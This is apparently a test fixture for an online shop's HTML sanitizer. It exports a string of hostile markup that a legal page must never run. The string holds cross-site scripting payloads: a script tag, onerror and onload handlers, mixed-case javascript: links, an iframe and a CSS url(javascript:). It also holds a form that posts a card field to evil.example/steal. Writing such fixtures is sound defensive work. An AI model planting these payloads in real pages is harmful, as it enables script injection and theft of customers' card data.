// HTML no shop page may ever run: script, event handlers, javascript: links, frames, forms, inline styles.
export const HOSTILE_LEGAL_HTML = [
  '<h3>Privacy</h3>',
  '<p>Plain words stay.</p>',
  "<script>window.__xss = 'script'</script>",
  `<img src="x" onerror="window.__xss = 'img'">`,
  `<a href="javascript:window.__xss = 'link'">Open</a>`,
  '<a href=" JaVaScRiPt:alert(1)">Spaced</a>',
  `<p onclick="window.__xss = 'click'" style="background:url(javascript:alert(1))">Handler</p>`,
  '<iframe src="javascript:alert(1)"></iframe>',
  `<svg onload="window.__xss = 'svg'"><circle r="5"></circle></svg>`,
  '<form action="https://evil.example/steal"><input name="card"><button>Send</button></form>',
  '<a href="https://example.com/terms">Terms</a>',
].join('');
